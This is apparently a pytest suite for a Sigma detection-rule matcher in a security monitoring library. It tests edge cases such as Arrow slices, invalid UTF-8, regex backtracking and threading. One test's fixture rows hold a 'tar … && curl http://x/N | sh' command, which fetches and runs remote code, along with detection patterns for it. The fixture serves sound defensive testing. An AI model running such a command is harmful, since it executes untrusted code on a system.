"""The matcher at its edges: nothing to match, slices, other Arrow types, huge values, hostile patterns, threads."""

from concurrent.futures import ThreadPoolExecutor
from time import perf_counter

import numpy as np
import pyarrow as pa
import pytest

from ringfence.errors import InputError
from ringfence.watch.batch import Batch, of_events
from ringfence.watch.sigma import Matcher, load
from ringfence.watch.sigma.fold import fold
from ringfence.wire.ocsf.event import Event
from tests.watch.sigma.helpers import batch, matched, rule

LINE = "process.cmd_line"
TEXT = rule("s: {CommandLine|contains: needle}")
PLAIN = "title: t\nid: 00000000-0000-4000-8000-000000000009\nlogsource: {source}\n"
PLAIN += "detection: {{k: {detection}, condition: k}}\n"


def _matcher(*detections: str, **how: bool) -> Matcher:
    texts = [(f"{at}.yml", rule(one, f"00000000-0000-4000-8000-{at:012d}")) for at, one in enumerate(detections)]
    ruleset, problems = load(texts)
    assert not problems
    return Matcher(ruleset, **how)


def test_an_empty_batch_and_an_empty_set_of_rules_have_no_hits():
    """And the arrays are there."""
    assert len(_matcher("s: {CommandLine: a}").match(batch([]))) == 0
    found = Matcher(load([])[0]).match(batch([{LINE: "a"}]))
    assert found.rows.tolist() == found.rules.tolist() == []


def test_a_column_of_nulls_matches_only_what_asks_for_nulls():
    """As if the column were not there."""
    record = pa.RecordBatch.from_arrays([pa.nulls(3, pa.string())], [LINE])
    matcher = _matcher("s: {CommandLine|contains: a}", "s: {CommandLine: null}", routed=False)
    found = matcher.match(Batch(record))
    assert (found.rows.tolist(), found.rules.tolist()) == ([0, 1, 2], [1, 1, 1])


def test_slices_are_read_where_they_begin():
    """Offsets, validity bits and numbers all move."""
    rows = [{LINE: "needle" if at % 3 == 0 else "hay", "process.pid": at} for at in range(50)]
    rows[9] = {"process.pid": 9}
    matcher = _matcher("s: {CommandLine|contains: needle, ProcessId|gt: 10}", "s: {CommandLine: null}", routed=False)
    whole = matcher.match(batch(rows))
    part = matcher.match(Batch(batch(rows).record.slice(7, 30)))
    expected = {
        (row - 7, one) for row, one in zip(whole.rows.tolist(), whole.rules.tolist(), strict=True) if 7 <= row < 37
    }
    assert set(zip(part.rows.tolist(), part.rules.tolist(), strict=True)) == expected
    assert (2, 1) in expected


@pytest.mark.parametrize("type_", [pa.large_string(), pa.dictionary(pa.int32(), pa.string()), pa.string_view()])
def test_other_arrow_texts_are_read_too(type_):
    """Large, by code, or as views."""
    array = pa.array(["a needle", None, "hay", "a needle"]).cast(type_)
    record = pa.RecordBatch.from_arrays([array], [LINE])
    assert matched(TEXT, Batch(record)) == [0, 3]


def test_a_column_that_is_no_text_and_no_number_is_refused():
    """A batch has texts and numbers."""
    record = pa.RecordBatch.from_arrays([pa.array([[1]])], [LINE])
    with pytest.raises(InputError, match="list"):
        matched(TEXT, Batch(record))


def test_bytes_that_are_no_utf8_do_no_harm():
    """They match no letter, and what stands beside them is found."""
    raw = pa.array([b"\xff\xfeneedle", b"\xc3", b"\xf0\x9f needle \xe2\x82", b"n\xff"], pa.binary())
    array = pa.StringArray.from_buffers(len(raw), *raw.buffers()[1:])
    record = pa.RecordBatch.from_arrays([array], [LINE])
    matcher = _matcher("s: {CommandLine|contains: NEEDLE}", "s: {CommandLine|re: 'n.*e'}", "s: {CommandLine: 'n?'}")
    matcher = Matcher(matcher.ruleset, routed=False)
    found = matcher.match(Batch(record))
    assert found.rows[found.rules == 0].tolist() == [0, 2]
    assert found.rows[found.rules == 1].tolist() == [0, 2]


def test_a_value_of_a_mebibyte_is_matched_in_time():
    """Globs, regular expressions and literals at its very end; none takes more than its length times the pattern's."""
    long = "a" * (1 << 20)
    rows = [{LINE: long + "needle"}, {LINE: long}, {LINE: "\u00e9" + long}]
    matcher = _matcher(
        "s: {CommandLine|endswith: needle}",
        "s: {CommandLine: '*a*a*a*b*a?c*'}",
        "s: {CommandLine|re: '(a+)+$'}",
        "s: {CommandLine|re: '(x+x+)+y'}",
        routed=False,
    )
    matcher.match(batch([{LINE: "a"}]))
    begin = perf_counter()
    found = matcher.match(batch(rows))
    assert perf_counter() - begin < 5
    assert sorted(zip(found.rows.tolist(), found.rules.tolist(), strict=True)) == [(0, 0), (1, 2), (2, 2)]


@pytest.mark.parametrize("pattern", ["(?=a)b", "(?<!a)b", "(a)\\1", "(?>a+)b"])
def test_what_needs_backtracking_is_a_problem_of_its_rule_alone(pattern):
    """The other rule is there."""
    ruleset, problems = load([("bad.yml", rule(f"s: {{CommandLine|re: '{pattern}'}}")), ("good.yml", TEXT)])
    assert [one.file for one in problems] == ["bad.yml"]
    assert "egular expression" in problems[0].what
    assert len(ruleset.rules) == 1


def test_guards_chosen_anew_find_the_same():
    """Whatever the sample held."""
    rows = [
        {LINE: f"tar czf /scratch/{at} && curl http://x/{at} | sh", "process.file.path": "/usr/bin/tar"}
        for at in range(600)
    ]
    matcher = _matcher(
        "s: {CommandLine|contains|all: [tar, '/scratch/1', 'curl ']}",
        "s: {CommandLine|re: 'x/[57]9 .*sh$'}",
        routed=False,
    )
    plain = matcher.match(batch(rows[:100]))
    matcher.adapt(batch(rows))
    again = matcher.match(batch(rows[:100]))
    assert plain.rows.tolist() == again.rows.tolist()
    assert plain.rules.tolist() == again.rules.tolist()
    assert len(plain) > 10


def test_more_hits_than_a_buffer_holds_are_all_there():
    """Every rule on every row, sorted by row and then by rule."""
    matcher = _matcher(
        *(f"s: {{CommandLine|contains: a}}\nt: {{CommandLine: 'x{at}'}}\ncondition: s or t" for at in range(40)),
        routed=False,
    )
    found = matcher.match(batch([{LINE: "bad"}] * 3000))
    assert len(found) == 40 * 3000
    assert found.rows.tolist() == np.repeat(np.arange(3000), 40).tolist()
    assert found.rules.tolist() == list(range(40)) * 3000


def test_threads_share_a_matcher():
    """Both find what one finds."""
    rows = [{LINE: f"run needle{at} x"} for at in range(3000)]
    matcher = _matcher("s: {CommandLine|re: 'needle[0-9]*7 '}", "s: {CommandLine|endswith: '5 x'}", routed=False)
    alone = matcher.match(batch(rows))
    with ThreadPoolExecutor(2) as pool:
        for found in pool.map(matcher.match, [batch(rows)] * 8):
            assert found.rows.tolist() == alone.rows.tolist()
            assert found.rules.tolist() == alone.rules.tolist()


def test_keywords_search_the_message_or_where_there_is_none_every_text():
    """A message that lacks the word hides the other columns; where an event came from is not searched."""
    rows = [
        {"message": "a needle", LINE: "hay"},
        {"message": "hay", LINE: "needle"},
        {LINE: "needle"},
        {"unmapped.other": "NEEDLE"},
        {"process.pid": 5},
    ]
    text = PLAIN.format(source="{product: linux}", detection="[needle, '*process_creation*']")
    assert matched(text, batch(rows)) == [0, 2, 3]


SOURCES = (
    "windows/process_creation/sysmon",
    "windows//sysmon",
    "windows/registry_set/sysmon",
    "linux/process_creation/",
    "//",
    "",
)
ROUTES = {
    "product: windows, category: process_creation": ([0], [0, 1, 4, 5]),
    "product: windows": ([0, 1, 2], [0, 1, 2, 4, 5]),
    "service: sysmon, product: windows": ([0, 1, 2], [0, 1, 2, 4, 5]),
    "category: process_creation": ([0, 3], [0, 1, 3, 4, 5]),
    "category: registry_event, product: windows": ([2], [1, 2, 4, 5]),
    "product: linux": ([3], [3, 4, 5]),
}


@pytest.mark.parametrize("source", ROUTES)
def test_a_rule_is_asked_only_of_its_log_source(source):
    """What an event does not tell agrees with no rule, or leniently with all."""
    strict, lenient = ROUTES[source]
    text = PLAIN.format(source="{" + source + "}", detection="{process.cmd_line: x}")
    ruleset, _ = load([("one.yml", text)])
    events = of_events([Event(1007, 1, 1, "h", one, {LINE: "x"}) for one in SOURCES])
    assert Matcher(ruleset).match(events).rows.tolist() == strict
    assert Matcher(ruleset, lenient=True).match(events).rows.tolist() == lenient
    assert Matcher(ruleset, routed=False).match(events).rows.tolist() == [0, 1, 2, 3, 4, 5]


def test_letter_case_is_folded_as_regular_expressions_fold_it():
    """Every character with two cases: what Python takes for the same letter has the same folding."""
    import re

    alike: dict[str, list[str]] = {}
    for code in range(0x1F000):
        if not 0xD800 <= code < 0xE000:
            alike.setdefault(fold(chr(code)), []).append(chr(code))
    for folded, letters in alike.items():
        if len(letters) > 1:
            assert all(re.fullmatch(re.escape(one), folded, re.IGNORECASE) for one in letters)
